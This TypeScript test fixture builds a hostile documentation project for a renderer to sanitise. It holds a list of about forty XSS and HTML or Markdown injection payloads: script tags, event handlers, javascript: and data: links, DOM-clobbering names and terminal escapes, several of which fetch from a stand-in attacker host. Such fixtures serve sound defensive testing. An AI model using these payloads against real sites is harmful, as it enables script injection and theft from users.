import type { Files } from './inMemoryProject.ts';

/** Where attacks call home: nothing may ever ask for it. */
export const ATTACKER = 'http://x.test';

/** What an attack does when it runs. */
const RUN = 'window.pwned=1,alert(1)';

/**
 * Texts that run something, fetch something or change the page around them when a browser takes them for HTML. None holds
 * a line end or a `|`, so that each fits everywhere: into a heading, a cell, a name of a catalogue.
 */
export const ATTACKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${ATTACKER}/a.js></script>`,
  `<p><ScRiPt\t>${RUN}</sCrIpT >`,
  `</title></style></script></textarea><script>${RUN}</script>`,
  `</article></section></main></body></html><script>${RUN}</script>`,
  `<img src=${ATTACKER}/a.png onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}//`,
  `<svg onload="${RUN}"><image href="${ATTACKER}/a.svg"/></svg>`,
  `<svg><script href="${ATTACKER}/b.js"/><script>${RUN}</script></svg>`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<svg><use href="${ATTACKER}/u.svg#a"/><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<style>@import "${ATTACKER}/a.css"; * { background: url(${ATTACKER}/b.png) }</style>`,
  `<p style="background:url(${ATTACKER}/c.png)" onclick="${RUN}" onmouseover="${RUN}">x</p>`,
  `<iframe src="javascript:parent.${RUN}" srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${ATTACKER}/f.html">`,
  `<object data="${ATTACKER}/o.swf"></object><embed src="${ATTACKER}/e.swf">`,
  `<form action="${ATTACKER}/post" id="sdet-filter" name="getElementById"><input autofocus onfocus="${RUN}"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">`,
  `<base href="${ATTACKER}/"><link rel="stylesheet" href="${ATTACKER}/l.css">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template><template><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>--> <!-- --!><img src=x onerror=${RUN}> --> <!---><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]> <?php <img src=x onerror=${RUN}> ?>`,
  `<details open ontoggle=${RUN}><summary>x`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<a id="sdet-filter" name="querySelectorAll" href="javascript:${RUN}">x</a><img name="getElementById"><img name="body">`,
  `<b onclick=${RUN}>x <i style="x:expression(${RUN})"> <table><td background=${ATTACKER}/t.png>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; \\<script>${RUN}\\</script>`,
  `[un](javascript:${RUN}) [deux](<javascript:${RUN}>) [trois](JaVaScRiPt:${RUN})`,
  `[un](javascript&colon;${RUN}) [deux](&#106;avascript:${RUN}) [trois](&#x6A;avascript:${RUN})`,
  `[un](<java\tscript:${RUN}>) [deux](<\u0001javascript:${RUN}>) [trois](java&Tab;script:${RUN}) [quatre](java&NewLine;script:${RUN})`,
  `[un](data:text/html,<script>${RUN}</script>) [deux](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [trois](vbscript:msgbox)`,
  `[un](blob:${ATTACKER}/x) [deux](file:///etc/passwd) [trois](view-source:${ATTACKER}) [quatre](ms-msdt:/id) [cinq](\\\\x.test\\part)`,
  `<javascript:${RUN}> <data:text/html,x> <vbscript:x> <x.test@javascript:alert(1)>`,
  `![x](${ATTACKER}/p.png) ![y](data:image/svg+xml,<svg/onload=${RUN}>) ![z](javascript:${RUN}) ![w](//x.test/p.png)`,
  `![" onerror="${RUN}](x.png "\\" onload=\\"${RUN}") [t](b.md "\\" onmouseover=\\"${RUN}")`,
  `[un](b.md#"><script>${RUN}</script>) [deux](<b.md" onclick="${RUN}>) [trois](b.md?<img src=x onerror=${RUN}>)`,
  `\`<script>${RUN}</script>\` \`\`</code><img src=x onerror=${RUN}>\`\``,
  `{onclick="${RUN}" style="x"} {#sdet-filter .x onload=${RUN}}`,
  `\u001b]8;;${ATTACKER}\u0007lien\u001b]8;;\u0007 \u001b[31mrouge\u001b[0m \u009b2J \u0000 \u2028 \ufffe`,
];

const yaml = (text: string): string => JSON.stringify(text);
const attack = (at: number): string => ATTACKS[at % ATTACKS.length] ?? '';

/** Names of things that a script of a page uses; as headings, IDs and footnotes they become anchors. */
const CLOBBERING = [
  ...[
    'sdet-filter',
    'sdet-text',
    'sdet-contents',
    'filter',
    'getElementById',
    'querySelectorAll',
    'location',
  ],
  ...['Highlight', 'CSS', '__proto__', 'constructor', 'hidden', 'toString', 'footnote-label', 'fn-1'],
];

/** A project that puts every attack into every place whose text reaches an output. */
export function hostileProject(): Files {
  const items = ATTACKS.map((text, at) => hostileItem(text, at)).join('\n');
  const names = CLOBBERING.map((name, at) => clobbering(name, at)).join('\n');
  return {
    'sdet.yaml': manifest(),
    'catalogues/acteurs.yaml': `kind: actors\nentries:\n  - { id: chef, name: ${yaml(`Chef ${ATTACKS.join(' ')}`)} }\n${entries('a')}`,
    'catalogues/services.yaml': `kind: services\nentries:\n${entries('s')}`,
    'catalogues/niveaux.yaml': `kind: levels\nid: niveaux\nentries:\n${levels()}`,
    'catalogues/glossaire.yaml': `kind: glossary\nentries:\n${glossary()}`,
    'views/v.yaml': `view: 1\nid: v\ntitle: ${yaml(`Vue ${ATTACKS.join(' ')}`)}\ndetail: full\n`,
    'a.md': `---\ntitle: ${yaml(`A ${ATTACKS.join(' ')}`)}\n---\n\n# A ${attack(0)}\n\n${attack(5)}\n\n${items}`,
    'b.md': `# B <img src=x onerror=${RUN}>\n\n${ATTACKS.join('\n\n')}\n\n${names}`,
    'exigences/r.yaml': `items:\n${ATTACKS.map(registerItem).join('')}`,
  };
}

function manifest(): string {
  const title = yaml(`Projet ${ATTACKS.join(' ')}`);
  return `sdet: 1
title: ${title}
version: ${yaml(attack(0))}
volumes:
  - { id: v, title: ${title}, chapters: [a.md] }
  - { id: w, title: ${yaml(attack(4))}, chapters: [b.md] }
catalogues: [catalogues/*.yaml]
registers: [exigences/*.yaml]
views: [views/*.yaml]
levels: niveaux
`;
}

function entries(prefix: string): string {
  return ATTACKS.map(
    (text, at) =>
      `  - { id: ${prefix}${at}, name: ${yaml(`${prefix}${at} ${text}`)}, aliases: [${yaml(text)}], description: ${yaml(text)} }\n`,
  ).join('');
}

function levels(): string {
  return ATTACKS.map(
    (text, at) =>
      `  - { id: n${at}, name: ${yaml(`N${at} ${text}`)}, rank: ${at + 1}, polarity: positive, keywords: [MOT${at}X] }\n`,
  ).join('');
}

function glossary(): string {
  return ATTACKS.map(
    (text, at) =>
      `  - { id: g${at}, name: terme${at}x, acronym: TX${at}, definition: ${yaml(text)}, plain: ${yaml(`Clair ${text}`)} }\n  - { id: h${at}, name: ${yaml(text)}, definition: ${yaml(text)} }\n`,
  ).join('');
}

function hostileItem(text: string, at: number): string {
  const id = `EX-AA-${String(at + 1).padStart(3, '0')}`;
  return `## Section ${at} ${text}

${text}

### ${id} — Point${at}x ${text}

- **Niveau** : n${at}
- **Acteurs** : chef, a${at}
- **Services** : s${at}
- **Étiquettes** : ${text}
- **Voir** : EX-AA-001 ${text}

Le terme${at}x (TX${at}) MOT${at}X. ${text}

> **En clair** : clair ${text}

> ${text}

- ${text}
  1. ${text}

| ${text} | b |
|---|---|
| ${text} | ${text} |

![${text}](images/a.png)
[${text}](b.md)
Note[^${id}] et [réf][d${at}].

\`\`\`html onclick="${RUN}"
${text}
\`\`\`

    ${text}

[^${id}]: note ${text}
[d${at}]: javascript:${RUN} "${text.replaceAll('"', "'")}"
`;
}

function clobbering(name: string, at: number): string {
  return `## ${name}

Texte[^${name}] [lien](#${name}).

### EX-CL-${String(at + 1).padStart(3, '0')} — ${name} {#${name}}

- **Acteurs** : chef

Le terme DOIT[^${name}]. <a id="${name}" name="${name}">x</a>

[^${name}]: note ${name}
`;
}

function registerItem(text: string, at: number): string {
  return `  - id: EX-RR-${String(at + 1).padStart(3, '0')}
    title: ${yaml(`Registre${at}x ${text}`)}
    actors: [chef]
    level: n${at}
    statement: ${yaml(text)}
    plain: ${yaml(`Clair ${text}`)}
`;
}
